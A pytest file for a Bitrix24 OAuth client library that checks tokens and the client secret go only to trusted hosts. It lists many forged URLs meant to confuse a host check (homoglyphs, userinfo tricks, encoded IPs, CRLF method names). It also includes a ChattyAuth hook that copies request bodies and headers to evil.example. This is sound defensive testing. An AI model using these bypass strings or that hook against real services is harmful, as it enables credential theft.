"""T11: whatever address somebody slips in, tokens and the client secret reach the trusted hosts only."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import attrs
import httpx
import pytest

from b24oauth import B24OAuth, RefreshTokenError, SdkError
from b24oauth.errors import PortalMovedError, UntrustedHostError
from tests.support.clients import fake_portal
from tests.support.spies import RecordingTransport, SpyStore, Watched, redirect, renewal_says, watched
from tests.support.stores import put

pytestmark = pytest.mark.anyio

# The address, and the host that an error about it names: nothing where there is no host to name.
FORGED_SERVERS = [
    ("https://evil.example/rest/", "evil.example"),
    ("https://oauth.bitrix.info.evil.example/rest/", "oauth.bitrix.info.evil.example"),
    ("https://OAUTH.BITRIX.INFO.EVIL.EXAMPLE/rest/", "oauth.bitrix.info.evil.example"),
    ("https://evil.example/oauth.bitrix.info/rest/", "evil.example"),
    ("https://oauth-bitrix.info/rest/", "oauth-bitrix.info"),
    ("https://xoauth.bitrix.info/rest/", "xoauth.bitrix.info"),
    ("https://bitrix.info/rest/", "bitrix.info"),
    ("https://oauth.bitrix.info@evil.example/rest/", "evil.example"),
    ("https://evil.example@oauth.bitrix.info/rest/", "oauth.bitrix.info"),
    ("https://user:password@oauth.bitrix.info/rest/", "oauth.bitrix.info"),
    ("https://oauth.bitrix.info:8443/rest/", "oauth.bitrix.info"),
    ("https://oauth.bitrix.info:80/rest/", "oauth.bitrix.info"),
    ("https://oauth.bitrix.info:99999/rest/", ""),
    ("http://oauth.bitrix.info/rest/", "oauth.bitrix.info"),
    ("http://oauth.bitrix.info:443/rest/", "oauth.bitrix.info"),
    ("http://localhost/rest/", "localhost"),
    ("http://127.0.0.1:8080/rest/", "127.0.0.1"),
    ("https://127.0.0.1/rest/", "127.0.0.1"),
    ("https://2130706433/rest/", "2130706433"),
    ("https://0x7f.1/rest/", "0x7f.1"),
    ("https://[::1]/rest/", "::1"),
    ("https://[2001:db8::1]/rest/", "2001:db8::1"),
    ("https://[::ffff:127.0.0.1]/rest/", "::ffff:127.0.0.1"),
    ("https://oauth.bitrix.inf\N{CYRILLIC SMALL LETTER O}/rest/", "oauth.bitrix.inf\N{CYRILLIC SMALL LETTER O}"),
    (
        "https://\N{FULLWIDTH LATIN SMALL LETTER O}auth.bitrix.info/",
        "\N{FULLWIDTH LATIN SMALL LETTER O}auth.bitrix.info",
    ),
    ("https://oauth\N{IDEOGRAPHIC FULL STOP}bitrix.info/rest/", "oauth\N{IDEOGRAPHIC FULL STOP}bitrix.info"),
    ("https://xn--auth-5cd.bitrix.info/rest/", "xn--auth-5cd.bitrix.info"),
    ("https://evil.example\\@oauth.bitrix.info/rest/", "oauth.bitrix.info"),
    ("https://oauth.bitrix.info\\.evil.example/rest/", "oauth.bitrix.info\\.evil.example"),
    ("https://oauth.bitrix.info./rest/", "oauth.bitrix.info."),
    ("https://oauth.bitrix.info%2eevil.example/rest/", "oauth.bitrix.info%2eevil.example"),
    ("https://oauth.bitrix.info%00.evil.example/rest/", "oauth.bitrix.info%00.evil.example"),
    ("https://oauth.bitrix.info\t.evil.example/rest/", "oauth.bitrix.info.evil.example"),
    ("https://oauth.bitrix\n.info/rest/", "oauth.bitrix.info"),
    ("https://oauth.bitrix.info?@evil.example/rest/", "oauth.bitrix.info"),
    ("https://oauth.bitrix.info#@evil.example/rest/", "oauth.bitrix.info"),
    ("//oauth.bitrix.info/rest/", "oauth.bitrix.info"),
    ("ftp://oauth.bitrix.info/rest/", "oauth.bitrix.info"),
    ("https:oauth.bitrix.info/rest/", ""),
    ("oauth.bitrix.info/rest/", ""),
]
FORGED_PORTALS = [
    ("http://portal.example/rest/", "portal.example"),
    ("http://portal.example:443/rest/", "portal.example"),
    ("http://127.0.0.1/rest/", "127.0.0.1"),
    ("http://localhost:8080/rest/", "localhost"),
    ("https://portal.example@evil.example/rest/", "evil.example"),
    ("https://evil.example\\@portal.example/rest/", "portal.example"),
    ("https://portal.example\\.evil.example/rest/", "portal.example\\.evil.example"),
    ("https://portal.ex\N{CYRILLIC SMALL LETTER A}mple/rest/", "portal.ex\N{CYRILLIC SMALL LETTER A}mple"),
    ("https://portal.example/rest/?x=", "portal.example"),
    ("//portal.example/rest/", "portal.example"),
    ("portal.example/rest/", ""),
]
FORGED = [("server_endpoint", *forged) for forged in FORGED_SERVERS] + [
    ("client_endpoint", *forged) for forged in FORGED_PORTALS
]
forged_endpoints = pytest.mark.parametrize(("endpoint", "address", "host"), FORGED)


async def calls_succeed(client: Watched) -> None:
    assert (await client.b24.actions.v2.call.make("profile")).is_success
    assert (await client.b24.actions.v3.call.make("profile")).is_success
    assert (await client.b24.actions.v3.batch.make([("profile", {})])).is_success


async def test_a_secret_that_leaves_home_is_noticed() -> None:
    portal = fake_portal()
    async with watched(
        portal, attrs.evolve(portal.issue(), client_endpoint="https://elsewhere.example/rest/")
    ) as client:
        await calls_succeed(client)
        with pytest.raises(AssertionError):
            client.assert_secrets_stayed_home()


# --- forged endpoints -------------------------------------------------------------------------------------------------


@forged_endpoints
async def test_t11_a_client_is_not_made_for_a_forged_endpoint(endpoint: str, address: str, host: str) -> None:
    portal = fake_portal()
    wire = RecordingTransport(portal.transport())
    forged = attrs.evolve(portal.issue(expired=True), **{endpoint: address})
    async with httpx.AsyncClient(transport=wire) as http:
        with pytest.raises(UntrustedHostError, match=endpoint) as caught:
            B24OAuth(forged, portal.secret, http_client=http)
    assert caught.value.host == host
    assert host in str(caught.value)
    assert not wire.requests


@forged_endpoints
async def test_t11_forged_endpoints_are_not_set(endpoint: str, address: str, host: str) -> None:
    portal = fake_portal()
    async with watched(portal) as client:
        before = client.b24.auth.get_params()
        with pytest.raises(UntrustedHostError, match=endpoint) as caught:
            client.b24.auth.set_params(attrs.evolve(portal.issue(), **{endpoint: address}))
        assert caught.value.host == host
        assert client.b24.auth.get_params() is before
        await client.b24.auth.refresh_auth()
        await calls_succeed(client)
        client.assert_secrets_stayed_home()


@forged_endpoints
async def test_t11_a_renewal_that_names_a_forged_endpoint_keeps_pair_and_old_address(
    endpoint: str, address: str, host: str
) -> None:
    portal = fake_portal()
    portal.inject(renewal_says(**{endpoint: address}), on="oauth/token")
    store = SpyStore()
    async with watched(portal, portal.issue(expired=True), token_store=store) as client:
        await calls_succeed(client)
        await client.b24.auth.refresh_auth()
        await calls_succeed(client)
        client.assert_secrets_stayed_home()
        first, second = store.saved
        assert client.b24.auth.get_params() == second
    assert len(portal.token_requests) == 2
    for saved in (first, second):
        assert (saved.server_endpoint, saved.client_endpoint) == (portal.server_endpoint, portal.client_endpoint)


@forged_endpoints
async def test_t11_a_stored_pair_with_a_forged_endpoint_is_used_at_the_old_address(
    endpoint: str, address: str, host: str
) -> None:
    portal = fake_portal()
    store = SpyStore()
    stored = attrs.evolve(portal.issue(), **{endpoint: address})
    await put(store, stored)
    async with watched(portal, portal.issue(expired=True), token_store=store) as client:
        await calls_succeed(client)
        assert client.b24.auth.get_params().access_token == stored.access_token
        await client.b24.auth.refresh_auth()
        await calls_succeed(client)
        client.assert_secrets_stayed_home()
    assert getattr(store.saved[-1], endpoint) == getattr(portal, endpoint)


@forged_endpoints
async def test_t11_a_custom_refresh_that_names_a_forged_endpoint_keeps_the_old_address(
    endpoint: str, address: str, host: str
) -> None:
    portal = fake_portal()
    async with watched(portal, portal.issue(expired=True)) as client:
        fresh = portal.issue()
        client.b24.set_custom_refresh_auth(
            lambda: {"access_token": fresh.access_token, "refresh_token": fresh.refresh_token, endpoint: address}
        )
        await calls_succeed(client)
        client.b24.remove_custom_refresh_auth()
        await client.b24.auth.refresh_auth()
        await calls_succeed(client)
        client.assert_secrets_stayed_home()


async def test_t11_hosts_that_are_trusted_are_the_ones_that_were_given() -> None:
    portal = fake_portal(oauth_origin="https://login.company.example:8443")
    with pytest.raises(UntrustedHostError, match=r"login\.company\.example:8443"):
        B24OAuth(portal.issue(), portal.secret)
    with pytest.raises(UntrustedHostError, match=r"oauth\.bitrix\.info"):
        B24OAuth(fake_portal().issue(), portal.secret, trusted_oauth_hosts={"login.company.example:8443"})


# --- redirects --------------------------------------------------------------------------------------------------------

EVIL = "https://evil.example/rest/profile?x=1"
STATUSES = pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
# What a careless application may have set on the client it shares.
CARELESS: dict[str, Any] = {
    "follow_redirects": True,
    "auth": ("user", "passw0rd"),
    "params": {"tracking": "yes"},
    "headers": {"X-App": "mine"},
    "cookies": {"session": "c00kie"},
}
CLIENTS = pytest.mark.parametrize("http_options", [{}, CARELESS], ids=["plain", "careless"])


@CLIENTS
@STATUSES
async def test_t11_a_redirected_renewal_is_not_followed(status: int, http_options: dict[str, Any]) -> None:
    portal = fake_portal()
    portal.inject(redirect(status, "https://evil.example/oauth/token/"), on="oauth/token", times=None)
    async with watched(portal, portal.issue(expired=True), http_options=http_options) as client:
        with pytest.raises(RefreshTokenError) as caught:
            await client.b24.actions.v2.call.make("profile")
        assert not caught.value.needs_reauth
        assert caught.value.status == status
        assert "evil.example" in str(caught.value)
        assert set(client.wire.heard) == {"https://oauth.bitrix.info"}
        client.assert_secrets_stayed_home()
        portal.clear_faults()
        await calls_succeed(client)


@CLIENTS
@STATUSES
@pytest.mark.parametrize("location", [EVIL, EVIL.replace("https", "http"), "https://portal.example@evil.example/"])
async def test_t11_a_redirected_call_is_not_followed_to_a_host_that_is_not_confirmed(
    status: int, http_options: dict[str, Any], location: str
) -> None:
    portal = fake_portal()
    portal.inject(redirect(status, location), on="profile", times=None)
    async with watched(portal, http_options=http_options) as client:
        with pytest.raises(PortalMovedError, match=r"evil\.example"):
            await client.b24.actions.v2.call.make("profile")
        assert set(client.wire.heard) == {"https://oauth.bitrix.info", "https://portal.example"}
        client.assert_secrets_stayed_home()


async def test_t11_a_bearer_token_is_not_carried_along_by_a_redirect() -> None:
    portal = fake_portal()
    portal.inject(redirect(307, "https://evil.example/rest/api/batch"), on="batch", times=None)
    async with watched(portal, http_options=CARELESS) as client:
        with pytest.raises(PortalMovedError, match=r"evil\.example"):
            await client.b24.actions.v3.batch.make([("profile", {})])
        assert set(client.wire.heard) == {"https://oauth.bitrix.info", "https://portal.example"}
        client.assert_secrets_stayed_home()


async def test_t11_the_authentication_of_a_shared_client_is_not_used() -> None:
    portal = fake_portal()
    async with watched(portal, portal.issue(expired=True), http_options=CARELESS) as client:
        await calls_succeed(client)
        sent = [request.headers.get("authorization", "") for request in client.wire.requests]
        client.assert_secrets_stayed_home()
    assert not [header for header in sent if header.startswith("Basic")]
    assert [header for header in sent if header.startswith("Bearer")]


class ChattyAuth(httpx.Auth):
    """Reports each request to somebody else before it is sent."""

    requires_request_body = True

    def auth_flow(self, request: httpx.Request) -> Any:
        yield httpx.Request("POST", "https://evil.example/report", content=request.content, headers=request.headers)
        yield request


async def test_t11_an_authentication_flow_of_a_shared_client_sees_nothing() -> None:
    portal = fake_portal()
    async with watched(portal, portal.issue(expired=True), http_options={"auth": ChattyAuth()}) as client:
        await calls_succeed(client)
        assert set(client.wire.heard) == {"https://oauth.bitrix.info", "https://portal.example"}


async def test_t11_the_base_address_of_a_shared_client_changes_no_address() -> None:
    portal = fake_portal()
    options = {"base_url": "https://evil.example/base/"}
    async with watched(portal, portal.issue(expired=True), http_options=options) as client:
        await calls_succeed(client)
        assert set(client.wire.heard) == {"https://oauth.bitrix.info", "https://portal.example"}


# --- where secrets travel ---------------------------------------------------------------------------------------------


async def test_t11_secrets_travel_in_bodies_or_headers_and_never_in_an_address() -> None:
    portal = fake_portal()
    async with watched(portal, portal.issue(expired=True)) as client:
        await calls_succeed(client)
        addresses = " ".join(str(request.url) for request in client.wire.requests)
        secrets = [portal.secret.client_secret]
        secrets += [token for pair in client.pairs for token in (pair.access_token, pair.refresh_token)]
        client.assert_secrets_stayed_home()
    assert not [secret for secret in secrets if secret in addresses]
    renewals = client.wire.sent_to("https://oauth.bitrix.info")
    assert [request.method for request in renewals] == ["POST"]


METHODS: list[Callable[[str], str]] = [
    lambda evil: f"//{evil}/x",
    lambda evil: f"@{evil}/x",
    lambda evil: f"\\\\{evil}\\x",
    lambda evil: f"../../..//{evil}/x",
    lambda evil: f"https://{evil}/x",
    lambda evil: f"%2f%2f{evil}/x",
    lambda evil: f"\r\nHost: {evil}\r\n",
]


@pytest.mark.parametrize("method", [make("evil.example") for make in METHODS])
async def test_t11_no_name_of_a_method_leads_to_another_host(method: str) -> None:
    portal = fake_portal()
    async with watched(portal) as client:
        for actions in (client.b24.actions.v2, client.b24.actions.v3):
            with pytest.raises(SdkError):
                await actions.call.make(method)
        assert set(client.wire.heard) <= {"https://portal.example"}
        client.assert_secrets_stayed_home()
